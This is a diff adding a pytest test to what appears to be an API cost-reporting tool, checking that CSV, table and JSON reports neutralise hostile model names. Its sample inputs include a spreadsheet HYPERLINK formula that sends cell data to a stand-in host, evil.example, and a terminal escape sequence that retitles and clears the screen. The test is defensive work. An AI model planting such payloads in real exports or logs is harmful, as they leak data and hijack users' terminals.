@@ -351,3 +351,30 @@ def test_report_subprocess(config: Path) -> None:
     assert total["cost"] == {"CNY": "0.03624", "USD": "0.0053792"}
     assert total["requests"] == 7
 
+
+
+def test_hostile_model_names_stay_text(capsys: pytest.CaptureFixture[str], tmp_path: Path,
+                                       book: PriceBook) -> None:
+    """A client chooses the model name it sends: in CSV it must not become a spreadsheet
+    formula, in the table it must not drive the terminal, in JSON it stays exactly itself."""
+    path = write_config(tmp_path, SHIPPED_BOOK.read_text(encoding="utf-8"))
+    ledger = SQLiteLedger(tmp_path / "ledger.sqlite3", BEIJING)
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    escape = "deepseek-flash\x1b]0;owned\x07\x1b[2J"  # from a ledger older than the 400
+    ledger.write([], [record(book, "h1", "alpha", formula, "2026-11-02T02:00:00+00:00", miss=1),
+                      record(book, "h2", "alpha", escape, "2026-11-02T02:00:00+00:00", miss=1),
+                      record(book, "h3", "alpha", "-1+2", "2026-11-02T02:00:00+00:00", miss=1)])
+    ledger.close()
+    code, out, _ = run(capsys, "report", "--config", str(path), "--format", "csv")
+    assert code == 0
+    rows = list(csv.reader(io.StringIO(out)))
+    models = {row[1] for row in rows[1:-1]}
+    assert models == {"'" + formula, "'-1+2", escape}
+    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows[1:] for cell in row[:2])
+    code, out, _ = run(capsys, "report", "--config", str(path), "--format", "table")
+    assert code == 0
+    assert "\x1b" not in out and "\x07" not in out
+    assert "deepseek-flash\\x1b]0;owned\\x07\\x1b[2J" in out
+    code, out, _ = run(capsys, "report", "--config", str(path), "--format", "json")
+    assert {row["model"] for row in json.loads(out)["rows"]} == {formula, escape, "-1+2"}
+    assert "\x1b" not in out  # JSON escapes control characters itself
